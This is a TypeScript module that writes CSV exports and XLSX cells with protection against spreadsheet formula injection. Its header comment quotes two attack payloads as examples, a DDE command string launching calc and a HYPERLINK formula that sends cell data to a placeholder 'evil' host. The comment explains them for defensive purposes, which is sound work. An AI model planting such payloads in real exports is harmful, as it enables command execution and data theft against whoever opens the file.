import Papa from "papaparse";

// Every CSV Tradeguard hands out is written here, and XLSX cells pass through `xlsxCell`.
//
// Why: a spreadsheet reads a cell that begins with = + - or @ as a formula (CSV injection): a visitor
// signed in as `=cmd|' /C calc'!A0` or `=HYPERLINK("http://evil/?"&A1)` runs a command (DDE) or sends
// data away when the log is opened in Excel or LibreOffice. A tab or carriage return in front hides
// the same payload, since some spreadsheets trim it. Such a cell is written with a leading apostrophe
// (papaparse's escapeFormulae), which makes the spreadsheet show it as text, so the text stays
// readable and is never evaluated.
//
// papaparse 5's own `escapeFormulae: true` pattern, /^[=+\-@\t\r].*$/, misses a value with a line
// break in it ("=1+1\nnote": `.` stops at the newline and `$` is the end of the text), and notes are
// multi-line, so the pattern here only looks at the first character. Numbers are left as they are
// (papaparse never escapes a JS number), so a count of -1 stays a number.

/** A leading character a spreadsheet would take as the start of a formula (or that hides one). */
export const FORMULA_START = /^[=+\-@\t\r]/;

export type CsvCell = string | number | null | undefined;

/**
 * The text of a CSV file: a UTF-8 byte-order mark (so Excel opens Chinese correctly), CRLF line
 * ends, and every cell that could be read as a formula kept as text. `fields` is the heading row;
 * null or undefined is an empty cell.
 */
export function csvDocument(fields: readonly string[], rows: readonly (readonly CsvCell[])[]): string {
  const data = rows.map((row) => row.map((cell) => cell ?? ""));
  return `\uFEFF${Papa.unparse({ fields: [...fields], data }, { newline: "\r\n", escapeFormulae: FORMULA_START })}`;
}

/** A CSV download: an attachment named `fileName`, never kept by a shared cache. */
export function csvResponse(text: string, fileName: string): Response {
  return new Response(text, {
    headers: {
      "Content-Type": "text/csv; charset=utf-8",
      "Content-Disposition": `attachment; filename="${fileName}"`,
      "Cache-Control": "private, no-store",
    },
  });
}

/**
 * A value for an exceljs cell: a finite number stays a number, anything else becomes a plain
 * string. exceljs writes a JS string as a text cell (never a formula: that takes an object with a
 * `formula`), so a user's "=..." cannot reach a workbook as one, even if a caller passes an object.
 */
export function xlsxCell(value: unknown): string | number {
  if (typeof value === "number" && Number.isFinite(value)) return value;
  if (value === null || value === undefined) return "";
  return String(value);
}
